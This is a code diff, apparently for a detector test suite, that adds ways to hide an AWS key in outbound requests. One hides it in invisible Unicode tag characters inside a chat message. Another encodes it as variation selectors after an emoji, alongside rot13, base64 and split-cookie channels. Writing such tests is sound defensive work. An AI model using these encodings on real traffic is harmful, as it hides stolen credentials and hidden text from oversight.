@@ -196,6 +196,13 @@ CHANNELS = {
         "headers": {"User-Agent": "tool/1.0 " + codecs.encode(AWS_KEY, "rot13")}},
     "base64 in the path": lambda t: {
         "url_suffix": f"/p/{base64.urlsafe_b64encode(AWS_KEY.encode()).decode()}?t={t}"},
+    "unicode tag characters (ascii smuggling) in a chat message": lambda t: {
+        "url_suffix": f"/tg?t={t}", "json": {"messages": [{"role": "user", "content": (
+            "Summarise this. " + "".join(chr(0xE0000 + ord(c)) for c in f"key {AWS_KEY}"))}]}},
+    "bytes in variation selectors after an emoji": lambda t: {
+        "url_suffix": f"/vs?t={t}", "json": {"note": "Thanks \U0001F642" + "".join(
+            chr(0xFE00 + b) if b < 16 else chr(0xE0100 + b - 16)
+            for b in f"key {AWS_KEY}".encode())}},
     "split over two cookies": lambda t: {
         "url_suffix": f"/ck?t={t}",
         "headers": {"Cookie": f"session=abc123; a={AWS_KEY[:10]}; b={AWS_KEY[10:]}"}},
